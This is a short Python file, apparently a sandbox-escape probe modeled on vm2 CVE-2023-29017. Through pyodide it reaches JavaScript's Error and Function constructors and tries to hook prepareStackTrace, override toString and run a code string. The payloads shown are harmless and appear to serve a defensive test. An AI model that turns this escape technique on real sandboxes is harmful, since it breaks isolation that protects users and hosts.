# From: vm2 CVE-2023-29017 by way of Python: hooks of the engine that run when the host describes an error.
# Ends: []
from gains import gains


def attack(probe):
    from pyodide.ffi import JsException, create_proxy, to_js

    Object = to_js([]).__proto__.__proto__.constructor
    try:
        to_js([]).constructor(-1)
    except JsException as error:
        Error = error.js_error.__proto__.__proto__.constructor

    def hook(name):
        def run():
            setattr(Error, name, create_proxy(lambda *values: values))
            return getattr(Error, name)

        return run

    symbols = to_js([]).constructor.constructor
    return gains([
        hook("prepareStackTrace"), hook("captureStackTrace") if False else hook("stackTraceHook"),
        lambda: setattr(Error.prototype, "toString", print) or 1,
        lambda: Object.defineProperty(Error, "prepareStackTrace", Object.fromEntries(to_js([["value", 1]]))).prepareStackTrace,
        lambda: symbols("return 1")(),
    ])
